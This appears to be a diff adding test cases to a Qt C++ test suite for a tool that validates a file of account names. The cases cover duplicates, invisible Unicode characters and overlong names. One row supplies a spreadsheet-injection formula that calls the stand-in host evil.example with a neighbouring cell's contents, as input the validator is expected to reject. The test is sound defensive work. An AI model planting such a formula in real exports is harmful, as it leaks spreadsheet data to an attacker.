@@ -211,6 +211,25 @@ private slots:
             << QStringList{"--accounts", namesFile("latin1", "cl\xe1ra\n")} << "line 1: not UTF-8";
         QTest::addRow("no names") << QStringList{"--accounts", namesFile("empty", "# none\n\n")}
                                   << "holds no account name";
+        QTest::addRow("a formula for a spreadsheet")
+            << QStringList{"--accounts", namesFile("formula", "anna\n=HYPERLINK(\"//evil.example/x?\"&B2)\n"),
+                           "--format", "csv"}
+            << "line 2: \"=HYPERLINK(\"//evil.example/x?\"&B2)\" starts with =";
+        QTest::addRow("a name twice") << QStringList{"--accounts", namesFile("twice", "anna\nbert\nanna\n")}
+                                      << "line 3: \"anna\" is given twice, first on line 1";
+        QTest::addRow("a right-to-left override")
+            << QStringList{"--accounts", namesFile("rlo", "\xe2\x80\xae"
+                                                          "anna\n")}
+            << "line 1: the name holds an invisible format character (U+202E)";
+        QTest::addRow("a line separator") << QStringList{"--accounts", namesFile("ls", "an\xe2\x80\xa8na\n")}
+                                          << "line 1: the name holds a line or paragraph separator";
+        QTest::addRow("a noncharacter")
+            << QStringList{"--accounts", namesFile("nonchar", "anna\xef\xbf\xbf\n")}
+            << "line 1: the name holds a noncharacter (U+FFFF)";
+        QTest::addRow("a blank at the end") << QStringList{"--accounts", namesFile("nbsp", "anna\xc2\xa0\n")}
+                                            << "line 1: the name starts or ends with a blank";
+        QTest::addRow("a name too long") << QStringList{"--accounts", namesFile("long", QByteArray(257, 'a'))}
+                                         << "line 1: the name is longer than 256 bytes";
     }
     void badInputIsOneMessageAndNothingWritten()
     {
